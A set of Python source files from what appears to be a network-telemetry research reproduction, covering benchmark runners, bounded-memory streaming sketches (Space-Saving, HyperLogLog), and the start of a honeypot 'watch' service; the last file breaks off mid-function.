    dataset = AnalysisDataset.from_simulation(result)
    stages["dataset"] = time.perf_counter() - started

    context = ExperimentContext(
        config=config, deployment=deployment, result=result, dataset=dataset
    )

    if experiments is None:
        experiments = [
            experiment_id
            for experiment_id in ALL_EXPERIMENTS
            if EXPERIMENT_YEARS.get(experiment_id, year) == year
        ]

    # X3 orchestrates the two off-base years on first run and caches
    # them on disk, so its timing is bimodal.  Record which mode this
    # run measured — checked before timing so the check itself cannot
    # flip the state it reports.
    x3_cache: Optional[str] = None
    if "X3" in experiments:
        from dataclasses import replace

        from repro.experiments.ext_temporal_stability import _run_cache_dir

        off_years = [y for y in (2020, 2021, 2022) if y != year]
        warm = all(
            (_run_cache_dir(replace(config, year=y)) / "run.json").exists()
            for y in off_years
        )
        x3_cache = "warm" if warm else "cold"

    experiment_timings: dict[str, float] = {}
    for experiment_id in experiments:
        run = ALL_EXPERIMENTS[experiment_id]
        started = time.perf_counter()
        run(context)
        experiment_timings[experiment_id] = time.perf_counter() - started
        _say(f"{experiment_id} analyzed in {experiment_timings[experiment_id]:.2f}s")

    record = {
        "timestamp": _timestamp(),
        "kind": "bench",
        "scale": scale,
        "telescope_slash24s": telescope_slash24s,
        "seed": seed,
        "year": year,
        "emission": emission,
        "events": result.total_events(),
        "stages": {name: round(value, 4) for name, value in stages.items()},
        "stages_total": round(sum(stages.values()), 4),
        "experiments": {
            name: round(value, 4) for name, value in experiment_timings.items()
        },
        "experiments_total": round(sum(experiment_timings.values()), 4),
        "slowest_experiment": (
            max(experiment_timings, key=experiment_timings.get)
            if experiment_timings else None
        ),
    }
    if x3_cache is not None:
        record["x3_cache"] = x3_cache
    if orchestrate_records:
        record["orchestrate"] = orchestrate_records
        baseline = orchestrate_records.get("1")
        if baseline and len(orchestrate_records) > 1:
            # Speedup vs the 1-worker run: >1.0 means the sharded path
            # beat single-worker wall clock at that worker count.
            record["orchestrate_speedup"] = {
                workers: round(baseline["seconds"] / entry["seconds"], 4)
                for workers, entry in orchestrate_records.items()
                if workers != "1" and entry["seconds"] > 0
            }
            for workers, ratio in sorted(record["orchestrate_speedup"].items()):
                _say(f"orchestrate speedup {workers}w vs 1w: {ratio:.2f}x")
    written = append_record(record, artifact)
    _say(
        f"build total {record['stages_total']:.2f}s, "
        f"analysis total {sum(experiment_timings.values()):.2f}s; "
        f"record appended to {written}"
    )
    return record


def run_stream_bench(
    scale: float = 1.0,
    telescope_slash24s: int = 16,
    seed: int = 777,
    year: int = 2021,
    chunk_events: int = 4096,
    sketch_k: int = 64,
    max_buffered_events: int = 65536,
    artifact: Optional[str] = None,
    quiet: bool = False,
) -> dict:
    """Benchmark sustained ingest through the streaming subsystem.

    Simulates one window (untapped, so simulation cost is excluded),
    then streams every vantage's consolidated table through a default
    :class:`~repro.stream.bus.StreamBus` into a full
    :class:`~repro.stream.analyzer.StreamAnalyzer` (sketches + HLLs +
    windows + leak alarm) in ``chunk_events``-row chunks, timing the
    ingest alone.  The appended record reports events/s, the peak
    sketch+window state bytes, and the bus's drop/backpressure counters
    (zero drops expected at the default queue size).
    """
    from repro.deployment.fleet import build_full_deployment
    from repro.experiments.context import _WINDOWS
    from repro.scanners.population import PopulationConfig, build_population
    from repro.sim.engine import SimulationConfig, run_simulation
    from repro.sim.rng import RngHub
    from repro.stream.analyzer import StreamAnalyzer
    from repro.stream.bus import StreamBus
    from repro.stream.watch import stream_table

    def _say(message: str) -> None:
        if not quiet:
            print(message, flush=True)

    hub = RngHub(seed)
    deployment = build_full_deployment(hub, num_telescope_slash24s=telescope_slash24s)
    population = build_population(PopulationConfig(year=year, scale=scale))
    started = time.perf_counter()
    result = run_simulation(
        deployment, population, SimulationConfig(seed=seed, window=_WINDOWS[year])
    )
    simulate_seconds = time.perf_counter() - started
    tables = result.tables()
    # Consolidate columns up front so the timed section is pure ingest.
    for table in tables.values():
        if len(table):
            table.timestamps
    _say(f"simulated {result.total_events():,} events in {simulate_seconds:.2f}s; "
         f"streaming in {chunk_events}-event chunks ...")

    bus = StreamBus(max_buffered_events=max_buffered_events)
    analyzer = StreamAnalyzer(
        hours=_WINDOWS[year].hours,
        sketch_k=sketch_k,
        leak_experiment=deployment.leak_experiment,
    )
    bus.subscribe(analyzer)
    started = time.perf_counter()
    for vantage_id in sorted(tables):
        stream_table(bus, tables[vantage_id], chunk_events)
    bus.close()
    ingest_seconds = time.perf_counter() - started

    events = analyzer.events_consumed
    record = {
        "timestamp": _timestamp(),
        "kind": "stream-bench",
        "scale": scale,
        "telescope_slash24s": telescope_slash24s,
        "seed": seed,
        "year": year,
        "sketch_k": sketch_k,
        "chunk_events": chunk_events,
        "max_buffered_events": max_buffered_events,
        "events": events,
        "chunks": analyzer.chunks_consumed,
        "vantages": len(analyzer.events_per_vantage),
        "simulate_seconds": round(simulate_seconds, 4),
        "ingest_seconds": round(ingest_seconds, 4),
        "events_per_second": round(events / ingest_seconds, 1) if ingest_seconds else 0.0,
        "state_bytes": analyzer.state_bytes(),
        "bus": bus.stats.as_dict(),
    }
    written = append_record(record, artifact)
    _say(
        f"streamed {events:,} events in {ingest_seconds:.2f}s "
        f"({record['events_per_second']:,.0f} events/s), "
        f"state ~{record['state_bytes']:,} B, "
        f"{bus.stats.dropped_events} dropped / "
        f"{bus.stats.backpressure_flushes} backpressure flush(es); "
        f"record appended to {written}"
    )
    return record


def run_incident_bench(
    scale: float = 0.1,
    telescope_slash24s: int = 8,
    seed: int = 777,
    year: int = 2021,
    artifact: Optional[str] = None,
    quiet: bool = False,
) -> dict:
    """Benchmark the incident closed loop; append the record.

    Times two things over one simulated window: the detection pass alone
    (``detect_incidents`` over the canonical hour-major replay — the cost
    a ``watch --incidents`` session pays on top of plain ingest) and the
    full X5 closed loop (detection + shard-wise blocked-volume scan +
    static-baseline arm + the enforced re-simulation self-check).  The
    record carries the loop's headline quality numbers — mean detection
    latency and auto/static volume reduction — alongside the wall
    clocks, so a regression in either speed or efficacy shows up in the
    same artifact.
    """
    from repro.analysis.dataset import AnalysisDataset
    from repro.deployment.fleet import build_full_deployment
    from repro.experiments import ExperimentConfig, ExperimentContext
    from repro.experiments.context import _WINDOWS
    from repro.experiments.ext_closed_loop import closed_loop_metrics
    from repro.incident.pipeline import detect_incidents
    from repro.scanners.population import PopulationConfig, build_population
    from repro.sim.engine import SimulationConfig, run_simulation
    from repro.sim.rng import RngHub

    def _say(message: str) -> None:
        if not quiet:
            print(message, flush=True)

    config = ExperimentConfig(
        year=year, scale=scale, telescope_slash24s=telescope_slash24s, seed=seed
    )
    hub = RngHub(seed)
    deployment = build_full_deployment(hub, num_telescope_slash24s=telescope_slash24s)
    population = build_population(PopulationConfig(year=year, scale=scale))
    started = time.perf_counter()
    result = run_simulation(
        deployment, population, SimulationConfig(seed=seed, window=_WINDOWS[year])
    )
    simulate_seconds = time.perf_counter() - started
    dataset = AnalysisDataset.from_simulation(result)
    context = ExperimentContext(
        config=config, deployment=deployment, result=result, dataset=dataset
    )
    _say(f"simulated {result.total_events():,} events in {simulate_seconds:.2f}s; "
         f"running detection ...")

    started = time.perf_counter()
    pipeline = detect_incidents(dataset)
    detection_seconds = time.perf_counter() - started
    summary = pipeline.summary()
    _say(f"detection pass: {summary['incidents']} incident(s), "
         f"{summary['actions']} action(s) in {detection_seconds:.2f}s")

    started = time.perf_counter()
    metrics = closed_loop_metrics(context, verify_resim=True)
    closed_loop_seconds = time.perf_counter() - started
    record = {
        "timestamp": _timestamp(),
        "kind": "incident-bench",
        "scale": scale,
        "telescope_slash24s": telescope_slash24s,
        "seed": seed,
        "year": year,
        "events": result.total_events(),
        "simulate_seconds": round(simulate_seconds, 4),
        "detection_seconds": round(detection_seconds, 4),
        "closed_loop_seconds": round(closed_loop_seconds, 4),
        "incidents": metrics["incidents"],
        "actions": metrics["actions"],
        "blocklist_entries": len(metrics["blocklist_entries"]),
        "mean_detection_latency_hours": metrics["mean_detection_latency_hours"],
        "auto_volume_reduction_pct": metrics["auto_volume_reduction_pct"],
        "static_volume_reduction_pct": metrics["static_volume_reduction_pct"],
        "resim_exact": bool(metrics["resim"] and metrics["resim"]["exact"]),
        "audit_digest": metrics["audit_digest"],
    }
    written = append_record(record, artifact)
    latency = record["mean_detection_latency_hours"]
    _say(
        f"closed loop in {closed_loop_seconds:.2f}s: "
        f"{record['auto_volume_reduction_pct']:.1f}% auto volume reduction "
        f"(static {record['static_volume_reduction_pct']:.1f}%), "
        f"mean detection latency "
        + (f"{latency:.1f}h" if latency is not None else "n/a")
        + f", re-simulation exact={record['resim_exact']}; "
        f"record appended to {written}"
    )
    return record


def run_serve_bench(
    scale: float = 0.1,
    telescope_slash24s: int = 8,
    seed: int = 777,
    year: int = 2021,
    connections: int = 1000,
    duration_seconds: float = 5.0,
    live_connections: int = 64,
    artifact: Optional[str] = None,
    quiet: bool = False,
) -> dict:
    """Benchmark the serving layer under concurrent load; append the record.

    Two phases, mirroring the two backends:

    1. **live** — simulate one window streaming through a default-sized
       :class:`~repro.stream.bus.StreamBus` into the live backend on an
       ingest thread, while ``live_connections`` concurrent clients
       query the HTTP server the whole time.  The record keeps the bus's
       drop counters: the acceptance bar is *zero* drops at the default
       queue size while queries are being answered.
    2. **run-dir** — orchestrate a small run, serve it exactly, and hold
       ``connections`` (≥ 1000 for the pinned record) keep-alive clients
       open for ``duration_seconds``, recording sustained RPS and
       p50/p99 request latency.
    """
    import asyncio
    import shutil
    import tempfile
    import threading

    from repro.deployment.fleet import build_full_deployment
    from repro.experiments import ExperimentConfig
    from repro.experiments.context import _WINDOWS
    from repro.runner import orchestrate
    from repro.scanners.population import PopulationConfig, build_population
    from repro.serve import QueryServer, RunDirBackend, ServeOptions, run_load
    from repro.serve.backends import build_live_pipeline
    from repro.sim.engine import SimulationConfig, run_simulation
    from repro.sim.rng import RngHub

    def _say(message: str) -> None:
        if not quiet:
            print(message, flush=True)

    config = ExperimentConfig(
        year=year, scale=scale, telescope_slash24s=telescope_slash24s, seed=seed
    )

    # -- phase 1: live backend queried during ingest -------------------
    hub = RngHub(seed)
    deployment = build_full_deployment(hub, num_telescope_slash24s=telescope_slash24s)
    population = build_population(PopulationConfig(year=year, scale=scale))
    bus, analyzer, _tracker, live_backend = build_live_pipeline(
        _WINDOWS[year].hours, leak_experiment=deployment.leak_experiment
    )

    async def _live_phase() -> dict:
        async with QueryServer(live_backend, ServeOptions()) as server:
            ingest = threading.Thread(
                target=lambda: (
                    run_simulation(
                        deployment,
                        population,
                        SimulationConfig(seed=seed, window=_WINDOWS[year]),
                        tap=bus.table_tap(),
                    ),
                    bus.close(),
                ),
                daemon=True,
            )
            started = time.perf_counter()
            ingest.start()
            paths = ["/healthz", "/vantages", "/stats",
                     "/compare?characteristic=as", "/cardinality"]
            reports = []
            while True:
                reports.append(await run_load(
                    server.options.host, server.port, paths,
                    connections=live_connections, duration_seconds=0.5,
                ))
                if not ingest.is_alive():
                    break
            ingest.join()
            seconds = time.perf_counter() - started
            await server.stop()
            queries = sum(report.requests for report in reports)
            return {
                "ingest_seconds": round(seconds, 4),
                "events": analyzer.events_consumed,
                "connections": live_connections,
                "queries_during_ingest": queries,
                "query_errors": sum(report.errors for report in reports),
                "bus": bus.stats.as_dict(),
                "server": server.stats.as_dict(),
            }

    live_record = asyncio.run(_live_phase())
    _say(f"live phase: {live_record['events']:,} events ingested in "
         f"{live_record['ingest_seconds']:.2f}s while answering "
         f"{live_record['queries_during_ingest']:,} queries "
         f"({live_record['bus']['dropped_events']} events dropped)")

    # -- phase 2: run-dir backend at full concurrency ------------------
    out_dir = tempfile.mkdtemp(prefix="cw-bench-serve-")
    try:
        run = orchestrate(config, workers=2, out_dir=out_dir, quiet=True)
        backend = RunDirBackend(out_dir)
        busiest = max(backend.dataset.tables, key=lambda v: len(backend.dataset.tables[v]))
        paths = [
            "/healthz",
            "/vantages",
            "/cardinality",
            f"/top?vantage={busiest}&characteristic=as&k=3",
            f"/volumes?vantage={busiest}",
            "/compare?characteristic=username&k=3",
            "/alarms",
            "/stats",
        ]

        async def _run_dir_phase():
            async with QueryServer(backend, ServeOptions()) as server:
                # Warm the content-addressed cache so the measured phase
                # is the steady state a long-lived server actually runs.
                await run_load(server.options.host, server.port, paths,
                               connections=8, duration_seconds=0.5)
                report = await run_load(
                    server.options.host, server.port, paths,
                    connections=connections, duration_seconds=duration_seconds,
                )
                stats = server.stats.as_dict()
                await server.stop()
                return report, stats

        report, server_stats = asyncio.run(_run_dir_phase())
    finally:
        shutil.rmtree(out_dir, ignore_errors=True)

    record = {
        "timestamp": _timestamp(),
        "kind": "serve-bench",
        "scale": scale,
        "telescope_slash24s": telescope_slash24s,
        "seed": seed,
        "year": year,
        "events": run.stats.events_total,
        "live": live_record,
        "run_dir": {
            "connections": report.connections,
            "duration_seconds": duration_seconds,
            **{key: value for key, value in report.as_dict().items()
               if key != "connections"},
            "server": server_stats,
        },
    }
    written = append_record(record, artifact)
    _say(
        f"run-dir phase: {report.requests:,} requests over "
        f"{report.connections:,} concurrent connections in "
        f"{report.seconds:.2f}s ({report.rps:,.0f} req/s, "
        f"p50 {report.p50_ms:.2f}ms, p99 {report.p99_ms:.2f}ms); "
        f"record appended to {written}"
    )
    return record


def main(argv: Optional[list[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="run_bench", description="Time the simulate→analyze pipeline."
    )
    parser.add_argument("--scale", type=float, default=1.0,
                        help="population scale factor (default 1.0, the pinned bench scale)")
    parser.add_argument("--telescope", type=int, default=16,
                        help="telescope size in /24s (default 16)")
    parser.add_argument("--seed", type=int, default=777)
    parser.add_argument("--year", type=int, default=2021, choices=(2020, 2021, 2022))
    parser.add_argument("--emission", default="batch", choices=("batch", "scalar"),
                        help="event-emission mode to benchmark (default batch)")
    parser.add_argument("--experiments", nargs="*", default=None, metavar="ID",
                        help="experiment ids to time (default: all for the year)")
    parser.add_argument("--orchestrate-workers", nargs="*", type=int, default=(),
                        metavar="N",
                        help="worker counts to time the orchestrator at "
                             "(default: skip; the CLI bench uses 1 2 4)")
    parser.add_argument("--orchestrate-sweep", action="store_true",
                        help="time the canonical 1/2/4-worker orchestrator sweep "
                             "in one invocation and record speedup ratios vs 1 "
                             "worker (overrides --orchestrate-workers)")
    parser.add_argument("--stream", action="store_true",
                        help="run the streaming sustained-ingest bench instead "
                             "of the simulate→analyze bench")
    parser.add_argument("--chunk-events", type=int, default=4096,
                        help="stream bench: rows per published chunk (default 4096)")
    parser.add_argument("--sketch-k", type=int, default=64,
                        help="stream bench: Space-Saving capacity (default 64)")
    parser.add_argument("--output", default=None, metavar="BENCH.json",
                        help=f"artifact path (default ${ARTIFACT_ENV} or {DEFAULT_ARTIFACT})")
    args = parser.parse_args(argv)
    try:
        if args.stream:
            run_stream_bench(
                scale=args.scale,
                telescope_slash24s=args.telescope,
                seed=args.seed,
                year=args.year,
                chunk_events=args.chunk_events,
                sketch_k=args.sketch_k,
                artifact=args.output,
            )
        else:
            run_bench(
                scale=args.scale,
                telescope_slash24s=args.telescope,
                seed=args.seed,
                year=args.year,
                emission=args.emission,
                experiments=args.experiments,
                orchestrate_workers=tuple(args.orchestrate_workers),
                orchestrate_sweep=args.orchestrate_sweep,
                artifact=args.output,
            )
    except ValueError as error:
        parser.error(str(error))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
