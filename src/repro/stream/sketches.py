"""Online statistics with bounded memory: the streaming layer's math.

Three primitives back the `cloudwatching watch` service:

* :class:`SpaceSavingSketch` — the Metwally et al. *Space-Saving*
  heavy-hitter sketch.  It monitors at most ``k`` categories; every
  estimate overestimates the true count by at most the recorded
  per-entry ``error``, which is itself bounded by ``n/k`` (``n`` =
  total stream weight).  Any category whose true count exceeds ``n/k``
  is guaranteed to be monitored, so for ``k`` at least the number of
  distinct categories the sketch is *exact* — which is what makes the
  streaming §3.3 comparison converge to the batch answer.
* :class:`HyperLogLog` — distinct-element counting in ``2^p`` one-byte
  registers (distinct scanning sources per vantage point, the paper's
  "who is scanning" denominator).
* :class:`StreamingContingency` — one Space-Saving sketch per group
  (vantage point) for one characteristic, plus the on-demand top-k-union
  chi-squared/Cramér's V evaluation of Section 3.3, reusing the exact
  same :func:`~repro.stats.topk.union_table` →
  :func:`~repro.stats.contingency.chi_square_test` machinery the batch
  pipeline runs.
"""

from __future__ import annotations

import hashlib
import sys
from typing import Hashable, Iterable, Mapping, Optional

import numpy as np

from repro.stats.contingency import ChiSquareResult, chi_square_test
from repro.stats.topk import top_k, union_table

__all__ = ["SpaceSavingSketch", "HyperLogLog", "StreamingContingency"]


class SpaceSavingSketch:
    """Space-Saving top-k sketch with per-entry error accounting.

    ``update(category, weight)`` is O(monitored) in the worst case (a
    min-scan on eviction); with the default ``k`` of 64 and chunk-level
    pre-aggregation upstream this is never a hot path.

    Deterministic: eviction ties are broken by category ``repr``, the
    same tie-break :func:`repro.stats.topk.top_k` uses, so streaming
    results do not depend on dict insertion order.
    """

    __slots__ = ("k", "total", "_counts", "_errors")

    def __init__(self, k: int = 64) -> None:
        if k < 1:
            raise ValueError("k must be >= 1")
        self.k = k
        #: Total stream weight ingested (the ``n`` of the n/k bound).
        self.total = 0.0
        self._counts: dict[Hashable, float] = {}
        self._errors: dict[Hashable, float] = {}

    def __len__(self) -> int:
        return len(self._counts)

    def update(self, category: Hashable, weight: float = 1.0) -> None:
        """Ingest ``weight`` occurrences of ``category``."""
        if weight <= 0:
            return
        self.total += weight
        counts = self._counts
        if category in counts:
            counts[category] += weight
            return
        if len(counts) < self.k:
            counts[category] = weight
            self._errors[category] = 0.0
            return
        # Evict the minimum-count entry; the newcomer inherits its count
        # as both its estimate floor and its error bound.
        victim = min(counts.items(), key=lambda item: (item[1], repr(item[0])))[0]
        floor = counts.pop(victim)
        self._errors.pop(victim)
        counts[category] = floor + weight
        self._errors[category] = floor

    def update_counts(self, counts: Mapping[Hashable, float]) -> None:
        """Ingest a pre-aggregated chunk counter (deterministic order)."""
        for category in sorted(counts, key=repr):
            self.update(category, counts[category])

    def estimate(self, category: Hashable) -> float:
        """Estimated count (0 for unmonitored categories)."""
        return self._counts.get(category, 0.0)

    def error(self, category: Hashable) -> float:
        """Overestimation bound for a monitored category."""
        return self._errors.get(category, 0.0)

    @property
    def error_bound(self) -> float:
        """The provable worst-case overestimate, ``total / k``."""
        return self.total / self.k

    def counts(self) -> dict[Hashable, float]:
        """Estimated counts of every monitored category."""
        return dict(self._counts)

    def top(self, k: int = 3) -> list[Hashable]:
        """The estimated top-k categories (§3.3 tie-break by repr)."""
        return top_k(self._counts, k)

    def state_bytes(self) -> int:
        """Approximate resident size of the monitored state."""
        size = sys.getsizeof(self._counts) + sys.getsizeof(self._errors)
        for category in self._counts:
            size += sys.getsizeof(category) + 2 * 8  # two float slots
        return size


# -- HyperLogLog ------------------------------------------------------------

#: splitmix64 constants (Vigna); a well-mixed 64-bit finalizer.
_SM64_GAMMA = np.uint64(0x9E3779B97F4A7C15)
_SM64_M1 = np.uint64(0xBF58476D1CE4E5B9)
_SM64_M2 = np.uint64(0x94D049BB133111EB)


def _splitmix64(values: np.ndarray) -> np.ndarray:
    """Vectorized splitmix64 over a uint64 array."""
    with np.errstate(over="ignore"):
        z = values + _SM64_GAMMA
        z = (z ^ (z >> np.uint64(30))) * _SM64_M1
        z = (z ^ (z >> np.uint64(27))) * _SM64_M2
        return z ^ (z >> np.uint64(31))


def _hash_object(value) -> int:
    """Stable (process-independent) 64-bit hash of one value."""
    if isinstance(value, bytes):
        data = value
    else:
        data = repr(value).encode("utf-8", errors="replace")
    return int.from_bytes(hashlib.blake2b(data, digest_size=8).digest(), "big")


_U64_MASK = 0xFFFFFFFFFFFFFFFF


def _splitmix64_int(value: int) -> int:
    """Scalar splitmix64, bit-identical to the vectorized version."""
    z = (value + 0x9E3779B97F4A7C15) & _U64_MASK
    z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & _U64_MASK
    z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & _U64_MASK
    return z ^ (z >> 31)


class HyperLogLog:
    """Distinct-element estimator over ``2^p`` one-byte registers.

    Registers record the rank (1 + trailing-zero count) of the hashed
    value's low bits; the estimate uses the standard bias-corrected
    harmonic mean with linear-counting small-range correction.  Hashing
    is process-independent (splitmix64 for integer arrays, BLAKE2b for
    everything else), so live and replayed streams agree.
    """

    __slots__ = ("p", "m", "_registers")

    def __init__(self, p: int = 12) -> None:
        if not 4 <= p <= 18:
            raise ValueError("p must be in [4, 18]")
        self.p = p
        self.m = 1 << p
        self._registers = np.zeros(self.m, dtype=np.uint8)

    def _ingest_hashes(self, hashed: np.ndarray) -> None:
        p64 = np.uint64(self.p)
        indices = (hashed >> (np.uint64(64) - p64)).astype(np.int64)
        # Rank = 1 + trailing zeros of the 64-p low (non-index) bits.
        low = hashed & np.uint64((1 << (64 - self.p)) - 1)
        with np.errstate(over="ignore"):
            lsb = low & (np.uint64(0) - low)
        rank = np.where(
            low == 0,
            np.uint8(64 - self.p + 1),
            # log2 of an isolated set bit is exact in float64.
            (np.log2(np.maximum(lsb, np.uint64(1)).astype(np.float64)) + 1).astype(np.uint8),
        )
        np.maximum.at(self._registers, indices, rank)

    def add_ints(self, values: np.ndarray) -> None:
        """Vectorized ingest of an integer array (e.g. source IPs)."""
        if len(values) == 0:
            return
        self._ingest_hashes(_splitmix64(np.asarray(values).astype(np.uint64)))

    def add(self, value) -> None:
        """Ingest one value of any hashable type (scalar fast path).

        Produces the exact register updates :meth:`add_ints` would — the
        scalar splitmix64 matches the vectorized one bit for bit — but
        without per-call ufunc overhead, which dominates on the 1-row
        chunks live honeypots and per-hour replays publish.
        """
        if isinstance(value, (int, np.integer)):
            hashed = _splitmix64_int(int(value) & _U64_MASK)
        else:
            hashed = _hash_object(value)
        index = hashed >> (64 - self.p)
        low = hashed & ((1 << (64 - self.p)) - 1)
        # Rank = 1 + trailing zeros of the low bits; the isolated LSB's
        # bit_length is exactly that (matches the log2 path).
        rank = (64 - self.p + 1) if low == 0 else (low & -low).bit_length()
        if rank > self._registers[index]:
            self._registers[index] = np.uint8(rank)

    def estimate(self) -> float:
        """Bias-corrected distinct-count estimate."""
        m = float(self.m)
        alpha = 0.7213 / (1.0 + 1.079 / m)
        registers = self._registers.astype(np.float64)
        raw = alpha * m * m / np.sum(np.exp2(-registers))
        zeros = int(np.count_nonzero(self._registers == 0))
        if raw <= 2.5 * m and zeros:
            return float(m * np.log(m / zeros))  # linear counting
        return float(raw)

    def state_bytes(self) -> int:
        return int(self._registers.nbytes)


# -- streaming §3.3 ---------------------------------------------------------


class StreamingContingency:
    """Incrementally maintained §3.3 comparison for one characteristic.

    Holds one :class:`SpaceSavingSketch` per group (vantage point).  The
    chi-squared/Cramér's V evaluation runs *on demand* over the union of
    per-group top-k categories — no rescan of the stream — through the
    identical :func:`~repro.stats.topk.union_table` and
    :func:`~repro.stats.contingency.chi_square_test` code paths the
    batch pipeline uses, so with ``sketch_k`` at least the distinct
    category count the streamed φ is bit-identical to batch φ.
    """

    def __init__(self, sketch_k: int = 64) -> None:
        self.sketch_k = sketch_k
        self._groups: dict[Hashable, SpaceSavingSketch] = {}

    def __len__(self) -> int:
        return len(self._groups)

    def sketch(self, group: Hashable) -> SpaceSavingSketch:
        sketch = self._groups.get(group)
        if sketch is None:
            sketch = self._groups[group] = SpaceSavingSketch(self.sketch_k)
        return sketch

    def groups(self) -> list[Hashable]:
        return sorted(self._groups, key=repr)

    def update(self, group: Hashable, category: Hashable, weight: float = 1.0) -> None:
        self.sketch(group).update(category, weight)

    def update_counts(self, group: Hashable, counts: Mapping[Hashable, float]) -> None:
        self.sketch(group).update_counts(counts)

    def group_counts(self) -> dict[Hashable, dict[Hashable, float]]:
        """Per-group estimated counters (the batch pipeline's input shape)."""
        return {group: sketch.counts() for group, sketch in self._groups.items()}

    def top(self, group: Hashable, k: int = 3) -> list[Hashable]:
        sketch = self._groups.get(group)
        return sketch.top(k) if sketch is not None else []

    def union_table(
        self, k: int = 3
    ) -> tuple[np.ndarray, list[Hashable], list[Hashable]]:
        return union_table(self.group_counts(), k)

    def chi_square(self, k: int = 3) -> ChiSquareResult:
        """Re-evaluate the §3.3 top-k-union comparison right now."""
        table, _groups, _categories = self.union_table(k)
        return chi_square_test(table)

    def total(self) -> float:
        return sum(sketch.total for sketch in self._groups.values())

    def state_bytes(self) -> int:
        return sum(sketch.state_bytes() for sketch in self._groups.values())
