"""Bounded-memory streaming telemetry: bus, sketches, windows, watch.

The subsystem behind ``cloudwatching watch``: ingest captured events
from a running simulation, a live honeypot fleet, or an orchestrated
run's spill directory; maintain online sketches and tumbling windows in
bounded memory; and re-evaluate the paper's §3.3 comparisons and Table 3
leak tests on demand.
"""

from repro.stream.analyzer import CHARACTERISTICS, StreamAnalyzer, StreamSnapshot
from repro.stream.bus import BusStats, StreamBus, StreamChunk
from repro.stream.sketches import HyperLogLog, SpaceSavingSketch, StreamingContingency
from repro.stream.watch import (
    WatchOptions,
    watch_live,
    watch_run_dir,
    watch_simulation,
)
from repro.stream.windows import LeakAlarm, StreamingLeakAlarm, TumblingWindows

__all__ = [
    "CHARACTERISTICS",
    "StreamAnalyzer",
    "StreamSnapshot",
    "BusStats",
    "StreamBus",
    "StreamChunk",
    "HyperLogLog",
    "SpaceSavingSketch",
    "StreamingContingency",
    "WatchOptions",
    "watch_live",
    "watch_run_dir",
    "watch_simulation",
    "LeakAlarm",
    "StreamingLeakAlarm",
    "TumblingWindows",
]
