"""The `cloudwatching watch` service: attach, stream, snapshot.

Three attachment modes, all feeding the same
:class:`~repro.stream.bus.StreamBus` →
:class:`~repro.stream.analyzer.StreamAnalyzer` pipeline:

* :func:`watch_simulation` — tap a simulation's columnar emission path
  while it runs (the CI smoke mode: one process, no sockets, real
  streaming cadence);
* :func:`watch_run_dir` — attach to an ``orchestrate`` spill directory
  and stream completed shards chunk by chunk, optionally *following*
  the directory while workers are still writing new shards;
* :func:`watch_live` — attach to a live asyncio honeypot fleet on
  loopback and snapshot on a wall-clock cadence.

Snapshots render top-k characteristic tables, per-vantage rates and
distinct-source estimates, spike counts, leak alarms, and the bus's
drop/backpressure accounting.
"""

from __future__ import annotations

import json
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional, Union

import numpy as np

from repro.stream.analyzer import StreamAnalyzer
from repro.stream.bus import StreamBus, StreamChunk

__all__ = ["WatchOptions", "SnapshotPrinter", "watch_simulation",
           "watch_run_dir", "watch_live", "stream_table"]

#: Times a manifest-bearing but unreadable shard is retried before the
#: follow loop abandons it (each retry backs off exponentially).
_MAX_SHARD_ATTEMPTS = 6
#: Ceiling on the per-shard retry backoff (seconds).
_MAX_SHARD_BACKOFF = 5.0


@dataclass
class WatchOptions:
    """Knobs shared by every attachment mode."""

    #: Space-Saving sketch capacity per (vantage, characteristic).
    sketch_k: int = 64
    #: Categories shown per table (and the §3.3 union k).
    top_k: int = 3
    #: Rows per published chunk when re-chunking stored tables.
    chunk_events: int = 4096
    #: Emit a snapshot every N consumed events (0 = only the final one).
    snapshot_events: int = 25000
    #: Stop after this many periodic snapshots (0 = unlimited).
    max_snapshots: int = 0
    #: Bus buffer bound (events) and overflow policy.
    max_buffered_events: int = 65536
    policy: str = "backpressure"
    #: Trailing window (hours) for leak alarms (None = full window).
    trailing_hours: Optional[int] = None
    #: Run incident detection alongside the sketches (the default; the
    #: rules piggyback on state the analyzer maintains anyway).
    incidents: bool = True
    #: Write the incident audit log here at the end of the watch.
    audit_log: Optional[str] = None
    #: Snapshot rendering: "text" tables or one JSON object per snapshot.
    format: str = "text"


class SnapshotPrinter:
    """Bus subscriber that renders snapshots on an event cadence."""

    def __init__(
        self,
        analyzer: StreamAnalyzer,
        bus: StreamBus,
        options: WatchOptions,
        say: Callable[[str], None],
        incidents=None,
    ) -> None:
        self.analyzer = analyzer
        self.bus = bus
        self.options = options
        self.say = say
        #: The attached IncidentPipeline, when detection is on.
        self.incidents = incidents
        self.snapshots_rendered = 0
        self._next_at = options.snapshot_events or 0

    def consume(self, chunk: StreamChunk) -> None:
        options = self.options
        if not options.snapshot_events:
            return
        if options.max_snapshots and self.snapshots_rendered >= options.max_snapshots:
            return
        if self.analyzer.events_consumed >= self._next_at:
            self.emit()
            while self._next_at <= self.analyzer.events_consumed:
                self._next_at += options.snapshot_events

    def emit(self, final: bool = False) -> None:
        if final and self.incidents is not None:
            self.incidents.finalize()
        snapshot = self.analyzer.snapshot(
            top_k=self.options.top_k,
            bus_stats=self.bus.stats,
            trailing_hours=self.options.trailing_hours,
        )
        if self.incidents is not None:
            snapshot.incidents = self.incidents.summary()
        if self.options.format == "json":
            self.say(json.dumps(snapshot.as_dict(), sort_keys=True))
        else:
            self.say(snapshot.render())
        self.snapshots_rendered += 1


def _pipeline(
    hours: int,
    options: WatchOptions,
    say: Callable[[str], None],
    leak_experiment=None,
) -> tuple[StreamBus, StreamAnalyzer, SnapshotPrinter]:
    bus = StreamBus(max_buffered_events=options.max_buffered_events,
                    policy=options.policy)
    analyzer = StreamAnalyzer(hours=hours, sketch_k=options.sketch_k,
                              leak_experiment=leak_experiment)
    incidents = None
    if options.incidents:
        from repro.incident.pipeline import IncidentPipeline

        incidents = IncidentPipeline(analyzer)
    printer = SnapshotPrinter(analyzer, bus, options, say, incidents=incidents)
    bus.subscribe(analyzer)
    if incidents is not None:
        # After the analyzer (rules read sketched hours), before the
        # printer (snapshots see the hour's incidents).
        bus.subscribe(incidents)
    bus.subscribe(printer)
    return bus, analyzer, printer


def _summary(bus: StreamBus, analyzer: StreamAnalyzer, printer: SnapshotPrinter,
             seconds: float) -> dict:
    summary = {
        "events": analyzer.events_consumed,
        "chunks": analyzer.chunks_consumed,
